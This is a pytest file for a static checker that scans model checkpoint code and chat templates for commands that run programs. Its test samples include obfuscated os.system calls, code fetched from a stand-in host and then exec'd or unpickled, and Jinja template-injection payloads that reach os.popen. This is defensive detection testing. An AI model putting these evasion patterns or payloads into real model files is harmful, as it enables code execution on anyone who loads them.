"""Code that trust_remote_code runs, and chat templates: read by syntax, never run."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from judges import judge

from doctor.checkpoint.records import Checkpoint
from doctor.checkpoint.scan import scan
from doctor.judge.check import Status, Verdict

torch = pytest.importorskip("torch")

CLASS = "import torch\nfrom .parts import Block\nclass Net(torch.nn.Module):\n"
NAMED = {"auto_map": {"AutoModel": "modeling_net.Net"}}


def saved(folder: Path, code: str, parts: str = "", config: dict[str, object] = NAMED) -> Path:
    from safetensors.torch import save_file

    save_file({"layer.weight": torch.ones(2, 2) / 3}, str(folder / "model.safetensors"))
    (folder / "config.json").write_text(json.dumps({"model_type": "net", **config}))
    (folder / "modeling_net.py").write_text(code)
    (folder / "parts.py").write_text(parts)
    return folder


def verdict(folder: Path) -> Verdict:
    checkpoint = scan(str(folder))
    assert isinstance(checkpoint, Checkpoint)
    return judge("CKP010")(checkpoint=checkpoint)


MARKER = "touch {}/ran"

PROGRAMS = {
    "module": "import subprocess\nsubprocess.run('{}', shell=True)\n",
    "alias": "import os as o\nrun = o.system\nrun('{}')\n",
    "from": "from os import system as s\ns('{}')\n",
    "star": "from os import *\nsystem('{}')\n",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('{}')\n",
    "import": "__import__('os').system('{}')\n",
    "computed": "import os\ngetattr(os, ''.join(['sys', 'tem']))('{}')\n",
    "import_module": "import importlib\nimportlib.import_module('os').popen('{}')\n",
    "class body": "import os\nclass A:\n    x = os.system('{}')\n",
    "default": "import os\ndef f(*, x=os.system('{}')): pass\n",
    "lambda": "import os\n(lambda: os.system('{}'))()\n",
    "thread": "import os, threading as t\ndef f(): os.system('{}')\nt.Thread(target=f).start()\n",
    "init": CLASS + "    def __init__(self):\n        import os\n        os.system('{}')\n",
    "helper": "import os\ndef f():\n    os.system('{}')\n" + CLASS
    + "    def forward(self, x):\n        return self.g(x)\n"
    + "    def g(self, x):\n        return f()\n",
    "decoded": "import base64\ntext = base64.b64decode('cHJpbnQoMSk=')\nexec(text.decode())\n",
    "fetched": "import urllib.request as u\nwith u.urlopen('http://x') as r:\n    exec(r.read())\n",
    "unpickled": "import pickle, requests\npickle.loads(requests.get('http://x').content)\n",
}  # fmt: skip


@pytest.mark.parametrize("name", PROGRAMS)
def test_code_that_starts_programs_fails(name: str, tmp_path: Path) -> None:
    code = PROGRAMS[name].replace("{}", MARKER.format(tmp_path))
    found = verdict(saved(tmp_path, code))
    assert found.status is Status.FAIL, found.summary
    assert "modeling_net.py, line " in found.summary
    assert not (tmp_path / "ran").exists()


def test_what_it_imports_beside_it_is_read(tmp_path: Path) -> None:
    found = verdict(saved(tmp_path, CLASS + "    pass\n", "import os\n\nos.system('true')\n"))
    assert found.status is Status.FAIL
    assert "parts.py, line 3, starts a program" in found.summary


HARMLESS = {
    "plain": CLASS + "    def forward(self, x):\n        self.eval()\n        return x\n",
    "script": "import os\nif __name__ == '__main__':\n    os.system('python convert.py')\n",
    "on request": "import subprocess\ndef export():\n    subprocess.run(['onnx'])\n",
    "image": "import requests\nclass P:\n    def __call__(self, u):\n        requests.get(u)\n",
    "parameter": "def step(requests, os):\n    requests.get(1)\nstep({}, 0)\n",
    "constant": "x = eval('1 + 1')\nimport os\nos.environ.get('HOME')\n",
    "attribute": "import os\nhas = getattr(os, 'sched_getaffinity', None)\n",
    "compile": "import torch, re\nf = torch.compile(len)\ng = re.compile('a')\n",
}


@pytest.mark.parametrize("name", HARMLESS)
def test_code_of_a_model_is_a_note(name: str, tmp_path: Path) -> None:
    found = verdict(saved(tmp_path, HARMLESS[name]))
    assert found.status is Status.NOTE, found.summary
    assert "trust_remote_code=True runs modeling_net.py" in found.summary


@pytest.mark.parametrize(
    "code",
    [
        "import requests\nfont = requests.get('http://x/font.ttf').content\n",
        "exec(''.join(map(chr, [49])))\n",
    ],
)
def test_an_import_with_side_effects_warns(code: str, tmp_path: Path) -> None:
    assert verdict(saved(tmp_path, code)).status is Status.WARN


@pytest.mark.parametrize("code", ["def f(:\n", "x = " + "-" * 90_000 + "1\n", "(" * 5_000, "\0"])
def test_what_cannot_be_parsed_is_unknown(code: str, tmp_path: Path) -> None:
    found = verdict(saved(tmp_path, code))
    assert found.status is Status.UNKNOWN
    assert "modeling_net.py is not readable as Python" in found.summary


def test_scripts_that_no_configuration_names_are_left_alone(tmp_path: Path) -> None:
    found = verdict(saved(tmp_path, PROGRAMS["module"], config={}))
    assert found.status is Status.PASS
    assert "trust_remote_code" not in found.summary


def test_code_of_another_repository_is_named(tmp_path: Path) -> None:
    config = {"auto_map": {"AutoModel": "owner/name--modeling_net.Net"}}
    found = verdict(saved(tmp_path, PROGRAMS["module"], config=config))
    assert found.status is Status.NOTE
    assert "owner/name--modeling_net.Net" in found.summary


@pytest.mark.parametrize("file", ["tokenizer_config.json", "model_index.json"])
def test_other_files_that_name_code(file: str, tmp_path: Path) -> None:
    saved(tmp_path, PROGRAMS["module"], config={})
    named = {"auto_map": {"AutoTokenizer": [None, "modeling_net.Net"]}}
    index = {"_class_name": ["modeling_net", "Net"]}
    (tmp_path / file).write_text(json.dumps(index if "index" in file else named))
    assert verdict(tmp_path).status is Status.FAIL


TURNS = "{% for m in messages %}{{ '<|im_start|>' + m['role'] + m['content'] }}{% endfor %}"


@pytest.mark.parametrize(
    ("template", "status"),
    [
        (TURNS + "{{ lipsum.__globals__['os'].popen('id').read() }}", Status.FAIL),
        (TURNS + "{% if ''['__class__'].mro() %}{% endif %}", Status.FAIL),
        (TURNS + "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", Status.FAIL),
        (TURNS + "{{ cycler.__init__.__globals__.os.system('id') }}", Status.FAIL),
        (TURNS, Status.PASS),
        (TURNS + "{{ '__start__' + '__end__' }} write __init__ and os.system", Status.PASS),
        (TURNS + "{% set os = m.os %}{{ raise_exception('no class') }}", Status.PASS),
    ],
)  # fmt: skip
def test_chat_templates(template: str, status: Status, tmp_path: Path) -> None:
    saved(tmp_path, "", config={})
    settings = {"chat_template": [{"name": "default", "template": template}]}
    (tmp_path / "tokenizer_config.json").write_text(json.dumps(settings))
    assert verdict(tmp_path).status is status
    (tmp_path / "tokenizer_config.json").write_text("{}")
    (tmp_path / "chat_template.jinja").write_text(template)
    found = verdict(tmp_path)
    assert found.status is status
    assert status is Status.PASS or "chat_template.jinja, line 1" in found.summary


SENDS = "from urllib import request\ndef ping():\n    def send():\n        request.urlopen('http://x')\n"
SENDS += "    send()\n"
CALLED = {
    "function": ("from .parts import ping as p\np()\n", SENDS, Status.WARN),
    "module": ("from . import parts\nparts.ping()\n", SENDS, Status.WARN),
    "program": (
        CLASS + "    def __init__(self):\n        ping()\nfrom .parts import ping\n",
        "import os\ndef ping():\n    os.system('true')\n",
        Status.NOTE,
    ),
    "local name": (
        CLASS + "    def __init__(self):\n        run = self.parts()\n        print(run)\n"
        "class Tool:\n    def run(self):\n        import os\n        os.system('true')\n"
        "from .parts import ping\n",
        SENDS,
        Status.NOTE,
    ),
    "processor": (
        "from .parts import read\nclass P:\n    def __call__(self, path): return read(path)\n",
        "import subprocess\ndef read(path):\n    return subprocess.run(['ffmpeg', path])\n",
        Status.NOTE,
    ),
    "never": ("from .parts import ping\n", SENDS, Status.NOTE),
    "on request": ("from .parts import ping\ndef report():\n    ping()\n", SENDS, Status.NOTE),
    "script": (
        "from .parts import ping\nif __name__ == '__main__':\n    ping()\n", SENDS, Status.NOTE
    ),
    "another": ("from .parts import other\nother()\n", SENDS + "def other(): pass\n", Status.NOTE),
    "own": ("from .parts import ping\ndef send(): pass\nsend()\n", SENDS, Status.NOTE),
}  # fmt: skip


@pytest.mark.parametrize("name", CALLED)
def test_functions_of_files_beside_it(name: str, tmp_path: Path) -> None:
    code, parts, status = CALLED[name]
    found = verdict(saved(tmp_path, code, parts))
    assert found.status is status, found.summary
    assert "parts.py" in found.summary


def test_a_call_through_two_files(tmp_path: Path) -> None:
    saved(
        tmp_path, "from .parts import ping\nping()\n", "from .more import run\ndef ping(): run()\n"
    )
    (tmp_path / "more.py").write_text("import os\ndef run(): os.system('true')\n")
    found = verdict(tmp_path)
    assert found.status is Status.FAIL
    assert "more.py, line 2, starts a program when it is imported" in found.summary
